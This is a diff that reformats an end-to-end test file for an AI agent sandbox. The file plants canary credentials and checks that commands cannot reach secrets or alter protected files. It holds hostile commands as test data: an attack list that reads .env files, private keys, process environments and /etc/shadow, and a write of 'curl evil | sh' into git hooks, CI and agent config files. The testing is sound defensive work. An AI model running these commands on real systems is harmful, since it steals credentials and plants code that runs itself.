@@ -28,24 +28,38 @@ from tests.e2e.debian import ensure
 
 REPO = Path(__file__).resolve().parents[2]
 UNPRIVILEGED = 1000
-KEYS = {"THEUS_API_KEY": "sk-theus-CANARY", "OPENAI_API_KEY": "sk-openai-CANARY",
-        "AWS_SECRET_ACCESS_KEY": "aws-CANARY", "GITHUB_TOKEN": "ghp_CANARY"}
+KEYS = {
+    "THEUS_API_KEY": "sk-theus-CANARY",
+    "OPENAI_API_KEY": "sk-openai-CANARY",
+    "AWS_SECRET_ACCESS_KEY": "aws-CANARY",
+    "GITHUB_TOKEN": "ghp_CANARY",
+}
 HOME_KEYS = {
-    ".ssh/id_ed25519": "ssh-CANARY", ".aws/credentials": "aws-file-CANARY",
-    ".pgpass": "db:5432:*:app:pg-CANARY", ".codex/auth.json": '{"key": "codex-CANARY"}',
+    ".ssh/id_ed25519": "ssh-CANARY",
+    ".aws/credentials": "aws-file-CANARY",
+    ".pgpass": "db:5432:*:app:pg-CANARY",
+    ".codex/auth.json": '{"key": "codex-CANARY"}',
     ".claude/.credentials.json": '{"token": "claude-CANARY"}',
-    ".cache/huggingface/token": "hf-CANARY", ".vault-token": "vault-CANARY",
-    ".config/rclone/rclone.conf": "pass = rclone-CANARY", ".s3cfg": "secret_key = s3-CANARY",
+    ".cache/huggingface/token": "hf-CANARY",
+    ".vault-token": "vault-CANARY",
+    ".config/rclone/rclone.conf": "pass = rclone-CANARY",
+    ".s3cfg": "secret_key = s3-CANARY",
     ".m2/settings.xml": "<password>maven-CANARY</password>",
     ".local/share/keyrings/login.keyring": "keyring-CANARY",
-    ".bash_history": "export TOKEN=history-CANARY", ".netrc": "password netrc-CANARY",
+    ".bash_history": "export TOKEN=history-CANARY",
+    ".netrc": "password netrc-CANARY",
 }
 PROJECT = {
-    "app.py": "print('hi')\n", ".env": "KEY=env-CANARY\n", "a/b/c/d/e/.env": "K=deep-CANARY\n",
-    "build/.env": "K=build-CANARY\n", "node_modules/pkg/.env": "K=module-CANARY\n",
-    "services/api/.env.production": "K=prod-CANARY\n", "deploy/id_rsa": "ssh-key-CANARY\n",
+    "app.py": "print('hi')\n",
+    ".env": "KEY=env-CANARY\n",
+    "a/b/c/d/e/.env": "K=deep-CANARY\n",
+    "build/.env": "K=build-CANARY\n",
+    "node_modules/pkg/.env": "K=module-CANARY\n",
+    "services/api/.env.production": "K=prod-CANARY\n",
+    "deploy/id_rsa": "ssh-key-CANARY\n",
     "certs/server.pem": "-----BEGIN PRIVATE KEY-----\npem-CANARY\n-----END PRIVATE KEY-----\n",
-    "Makefile": "all:\n\techo build\n", ".vscode/tasks.json": "{}\n",
+    "Makefile": "all:\n\techo build\n",
+    ".vscode/tasks.json": "{}\n",
 }
 CHILD = textwrap.dedent("""
     import asyncio, json, sys
@@ -84,8 +98,12 @@ def code() -> Iterator[Path]:
     import platformdirs
     import typing_extensions
 
-    for source in (REPO / "theus", REPO / "knowledge", Path(pathspec.__file__).parent,
-                   Path(platformdirs.__file__).parent):
+    for source in (
+        REPO / "theus",
+        REPO / "knowledge",
+        Path(pathspec.__file__).parent,
+        Path(platformdirs.__file__).parent,
+    ):
         shutil.copytree(source, top / source.name, ignore=shutil.ignore_patterns("__pycache__"))
     shutil.copy(typing_extensions.__file__, top)
     _open_to_all(top)
@@ -102,8 +120,11 @@ def _open_to_all(top: Path) -> None:
 
 def _python_for(prefix: list[str]) -> str:
     """A Python the child's user can run: this one, or the system's."""
-    for candidate in (os.path.realpath(sys.executable), "/usr/bin/python3",
-                      "/usr/local/bin/python3"):
+    for candidate in (
+        os.path.realpath(sys.executable),
+        "/usr/bin/python3",
+        "/usr/local/bin/python3",
+    ):
         done = subprocess.run([*prefix, candidate, "-c", "pass"], capture_output=True)
         if done.returncode == 0:
             return candidate
@@ -114,8 +135,13 @@ def _prefix(user: str) -> list[str]:
     if user == "root":
         return [] if os.geteuid() == 0 else ["unshare", "--map-root-user", "--"]
     if os.geteuid() == 0:
-        return ["setpriv", f"--reuid={UNPRIVILEGED}", f"--regid={UNPRIVILEGED}",
-                "--clear-groups", "--"]
+        return [
+            "setpriv",
+            f"--reuid={UNPRIVILEGED}",
+            f"--regid={UNPRIVILEGED}",
+            "--clear-groups",
+            "--",
+        ]
     return []
 
 
@@ -141,10 +167,21 @@ def world(request: pytest.FixtureRequest, code: Path) -> Iterator[dict[str, obje
     for path in (home / ".ssh/id_ed25519", top / "theus-home/config/credentials.json"):
         path.chmod(0o600)
     prefix = _prefix(user)
-    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(home),
-           "THEUS_HOME": str(top / "theus-home"), "PYTHONPATH": str(code), **KEYS}
-    yield {"top": top, "root": root, "home": home, "prefix": prefix, "env": env,
-           "python": _python_for(prefix)}
+    env = {
+        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
+        "HOME": str(home),
+        "THEUS_HOME": str(top / "theus-home"),
+        "PYTHONPATH": str(code),
+        **KEYS,
+    }
+    yield {
+        "top": top,
+        "root": root,
+        "home": home,
+        "prefix": prefix,
+        "env": env,
+        "python": _python_for(prefix),
+    }
     agent.close()
     shutil.rmtree(top, ignore_errors=True)
 
@@ -152,10 +189,21 @@ def world(request: pytest.FixtureRequest, code: Path) -> Iterator[dict[str, obje
 def run(world: dict[str, object], *commands: str) -> list[str]:
     top = world["top"]
     formatted = [c.format(top=top, home=world["home"], root=world["root"]) for c in commands]
-    done = subprocess.run([*world["prefix"], world["python"], "-c", CHILD,  # type: ignore[misc]
-                           str(world["root"]), json.dumps(formatted)],
-                          env=world["env"], cwd=top, capture_output=True, text=True,
-                          timeout=300)  # cwd: `python -c` imports from it first
+    done = subprocess.run(
+        [
+            *world["prefix"],
+            world["python"],
+            "-c",
+            CHILD,  # type: ignore[misc]
+            str(world["root"]),
+            json.dumps(formatted),
+        ],
+        env=world["env"],
+        cwd=top,
+        capture_output=True,
+        text=True,
+        timeout=300,
+    )  # cwd: `python -c` imports from it first
     assert done.returncode == 0, done.stderr
     outs: list[str] = json.loads(done.stdout)
     return outs
@@ -177,7 +225,7 @@ ATTACKS = [
     "cat .env a/b/c/d/e/.env build/.env node_modules/pkg/.env certs/server.pem",
     # the environment, the machine's sockets, root-only files
     "env; tr '\\0' '\\n' < /proc/$PPID/environ",
-    "python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); "
+    'python3 -c "import socket; s = socket.socket(socket.AF_UNIX); '
     "s.connect('{top}/outside/agent.sock'); print('reached the agent')\"",
     "cat /etc/shadow",
 ]
@@ -194,27 +242,37 @@ def test_nothing_reaches_a_key_whoever_runs_theus(world: dict[str, object], atta
 
 
 def test_the_project_stays_writable_and_usable(world: dict[str, object]) -> None:
-    (out,) = run(world, "echo made > made.txt && cat made.txt && git --version && "
-                        "python3 -c 'import threading; t = threading.Thread(target=print, "
-                        "args=(\"thread\",)); t.start(); t.join()'")
+    (out,) = run(
+        world,
+        "echo made > made.txt && cat made.txt && git --version && "
+        "python3 -c 'import threading; t = threading.Thread(target=print, "
+        'args=("thread",)); t.start(); t.join()\'',
+    )
     assert out.startswith("exit 0"), out
     assert "made" in out and "git version" in out and "thread" in out
     assert (world["root"] / "made.txt").read_text() == "made\n"  # type: ignore[operator]
 
 
 PROTECTED_WRITES = {  # path -> existed before the command
-    ".git/hooks/pre-commit": True, ".git/config": True, "Makefile": True,
-    ".vscode/tasks.json": True, ".git/hooks/post-checkout": False,
-    ".github/workflows/ci.yml": False, ".claude/settings.json": False, "AGENTS.md": False,
-    ".envrc": False, ".cargo/config.toml": False,
+    ".git/hooks/pre-commit": True,
+    ".git/config": True,
+    "Makefile": True,
+    ".vscode/tasks.json": True,
+    ".git/hooks/post-checkout": False,
+    ".github/workflows/ci.yml": False,
+    ".claude/settings.json": False,
+    "AGENTS.md": False,
+    ".envrc": False,
+    ".cargo/config.toml": False,
 }
 
 
 def test_protected_files_stay_as_they_were(world: dict[str, object]) -> None:
     root: Path = world["root"]  # type: ignore[assignment]
     before = {path: (root / path).read_bytes() for path, old in PROTECTED_WRITES.items() if old}
-    writes = " ; ".join(f"mkdir -p $(dirname {p}); echo 'curl evil | sh' >> {p}"
-                        for p in PROTECTED_WRITES)
+    writes = " ; ".join(
+        f"mkdir -p $(dirname {p}); echo 'curl evil | sh' >> {p}" for p in PROTECTED_WRITES
+    )
     (out,) = run(world, writes + "; echo done")
     assert "Read-only file system" in out, out
     for path, old in PROTECTED_WRITES.items():
@@ -225,19 +283,32 @@ def test_protected_files_stay_as_they_were(world: dict[str, object]) -> None:
             # the model is told what was moved aside: the file, or the new folder holding it
             assert path in out or str(Path(path).parent) in out, out
     # git still commits: its own data is writable, its hooks and config are not
-    (out,) = run(world, "git -c user.email=a@b -c user.name=a commit --allow-empty -qm x "
-                        "&& git log --oneline | wc -l")
+    (out,) = run(
+        world,
+        "git -c user.email=a@b -c user.name=a commit --allow-empty -qm x "
+        "&& git log --oneline | wc -l",
+    )
     assert out.startswith("exit 0"), out
 
 
 def test_protected_files_are_written_with_allow_config_edits(world: dict[str, object]) -> None:
     child = CHILD.replace("approve=yes)", "approve=yes, allow_config_edits=True)")
     root = world["root"]
-    done = subprocess.run([*world["prefix"], world["python"], "-c", child,  # type: ignore[misc]
-                           str(root), json.dumps(["echo hook >> .git/hooks/pre-commit; "
-                                                  "echo x > AGENTS.md"])],
-                          env=world["env"], cwd=world["top"], capture_output=True, text=True,
-                          timeout=300)
+    done = subprocess.run(
+        [
+            *world["prefix"],
+            world["python"],
+            "-c",
+            child,  # type: ignore[misc]
+            str(root),
+            json.dumps(["echo hook >> .git/hooks/pre-commit; echo x > AGENTS.md"]),
+        ],
+        env=world["env"],
+        cwd=world["top"],
+        capture_output=True,
+        text=True,
+        timeout=300,
+    )
     assert done.returncode == 0, done.stderr
     assert (root / ".git/hooks/pre-commit").read_text().endswith("hook\n")  # type: ignore[operator]
     assert (root / "AGENTS.md").read_text() == "x\n"  # type: ignore[operator]
